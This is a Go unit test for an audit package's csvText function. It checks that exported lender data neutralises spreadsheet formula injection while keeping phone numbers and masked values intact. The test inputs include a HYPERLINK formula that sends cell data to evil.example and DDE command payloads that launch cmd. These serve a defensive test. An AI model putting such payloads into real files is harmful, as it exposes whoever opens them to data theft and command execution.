package audit

import "testing"

// An unmasked export of lender data opened in a spreadsheet must not run
// what a borrower typed as a phone number; numbers stay as they are.
func TestCSVTextNeutralizesFormulas(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"equals formula", `=HYPERLINK("http://evil.example/?"&A1,"call")`, `'=HYPERLINK("http://evil.example/?"&A1,"call")`},
		{"at formula", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"plus command", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus command", "-2+3+cmd|' /C x'!A", "'-2+3+cmd|' /C x'!A"},
		{"tab", "\tfoo", "'\tfoo"},
		{"E.164 number", "+8613812345678", "+8613812345678"},
		{"masked number", "+86 138****5678", "+86 138****5678"},
		{"formatted number", "+1 (212) 555-0123", "+1 (212) 555-0123"},
		{"masked email", "z***@example.com", "z***@example.com"},
		{"masked account", "****2345", "****2345"},
		{"reason", "opted_out", "opted_out"},
		{"empty", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := csvText(c.in); got != c.want {
				t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}
